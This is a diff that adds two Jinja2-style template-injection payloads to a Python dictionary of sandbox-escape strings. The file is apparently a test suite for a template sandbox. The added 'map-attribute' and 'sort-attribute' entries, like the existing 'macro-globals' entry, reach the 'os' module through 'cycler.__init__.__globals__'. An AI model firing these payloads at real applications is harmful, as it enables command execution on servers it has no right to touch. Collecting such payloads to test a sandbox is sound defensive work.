@@ -44,6 +44,8 @@ PAYLOADS = {
     "format-map": "[[ '{{x.__class__}}'.format_map({{'x': 1}}) ]]",
     "format-filter": "[[ '%s'|format(cycler.__init__.__globals__) ]]",
     "bound-format": "{{% set f = '{{0.__class__}}'.format %}}[[ f(1) ]]",
+    "map-attribute": "[[ [cycler]|map(attribute='__init__.__globals__.os')|list ]]",
+    "sort-attribute": "[[ [cycler]|sort(attribute='__init__.__globals__')|list ]]",
     "macro-globals": (
         "{{% macro m() %}}x{{% endmacro %}}[[ m.__init__.__globals__.os.{touch} ]]"
     ),
